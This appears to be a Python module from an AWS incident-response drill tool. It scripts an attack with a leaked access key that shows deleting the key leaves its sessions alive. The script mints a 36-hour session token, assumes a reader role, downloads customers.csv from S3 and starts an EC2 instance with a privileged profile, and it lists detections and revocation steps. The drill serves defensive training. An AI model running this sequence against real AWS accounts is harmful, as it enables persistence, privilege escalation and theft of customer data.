"""Deactivating or deleting a key leaves its sessions alive, for up to 36 hours, and whatever they started.

https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_temp_control-access_disable-perms.html
"""

from unleak.drill.stage import PRIVILEGED, Stage
from unleak.drill.technique import Loot, Move, Technique, Traces

_LONGEST_SESSION = 129_600


def _whoami(holder: str) -> Move:
    return Move(
        holder,
        "sts:GetCallerIdentity",
        lambda loot: loot.client(holder, "sts").get_caller_identity(),
        wanted=holder == "key",
        note="" if holder == "key" else "AWS always answers this: it proves nothing about a session",
    )


def _get_session(loot: Loot) -> None:
    made = loot.client("key", "sts").get_session_token(DurationSeconds=_LONGEST_SESSION)
    loot.keep("session", made["Credentials"])


def _assume_role(loot: Loot) -> None:
    made = loot.client("session", "sts").assume_role(RoleArn=loot.stage.reader_arn, RoleSessionName="backup-job")
    loot.keep("role", made["Credentials"])


def _run_instance(loot: Loot) -> None:
    ec2 = loot.client("session", "ec2")
    if "image" not in loot.seen:
        loot.seen["image"] = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    made = ec2.run_instances(
        ImageId=loot.seen["image"],
        InstanceType="t3.micro",
        MinCount=1,
        MaxCount=1,
        IamInstanceProfile={"Name": PRIVILEGED},
    )
    loot.seen.setdefault("instance", made["Instances"][0]["InstanceId"])


def _start_instance(loot: Loot) -> None:
    loot.client("session", "ec2").start_instances(InstanceIds=[loot.seen["instance"]])


_DENIED = "refused before as well: this user may not"
TECHNIQUE = Technique(
    id="key_deletion_is_not_enough",
    title="Key deletion is not enough",
    attack=("T1078.004", "T1550.001", "T1578.002"),
    moves=(
        _whoami("key"),
        Move("key", "s3:ListBuckets", lambda loot: loot.client("key", "s3").list_buckets()),
        Move("key", "iam:ListUsers", lambda loot: loot.client("key", "iam").list_users()),
        Move("key", "secretsmanager:ListSecrets", lambda loot: loot.client("key", "secretsmanager").list_secrets(),
             wanted=False, note=_DENIED),
        Move("key", "iam:CreateUser", lambda loot: loot.client("key", "iam").create_user(UserName="support"),
             wanted=False, note=_DENIED),
        Move("key", "sts:GetSessionToken (36 h)", _get_session),
        _whoami("session"),
        Move("session", "ec2:DescribeInstances", lambda loot: loot.client("session", "ec2").describe_instances()),
        Move("session", "sts:AssumeRole data-reader", _assume_role),
        Move("role", "s3:GetObject customers.csv",
             lambda loot: loot.client("role", "s3").get_object(Bucket=loot.stage.bucket, Key="customers.csv")),
        Move("session", "ec2:RunInstances as ops-admin", _run_instance),
        Move("session", "ec2:StartInstances", _start_instance),
    ),
    seen=Traces(
        rules=("sts-get-session-token", "sts-assume-role", "ec2-run-instances", "sts-get-caller-identity"),
        credentials=("GetSessionToken", "AssumeRole"),
        things=("EC2::Instance",),
    ),
    stopped_by=("revoke_user_sessions", "revoke_role_sessions", "deactivate_key", "stop_instance"),
    leaves=("instance",),
    is_told=True,
)  # fmt: skip


def stop_by_hand(stage: Stage, loot: Loot) -> None:
    """What a checklist's reader does beside deactivating the key: stop the machine that should not be there."""
    if "instance" in loot.seen:
        stage.admin.client(stage.account, "ec2").stop_instances(InstanceIds=[loot.seen["instance"]])
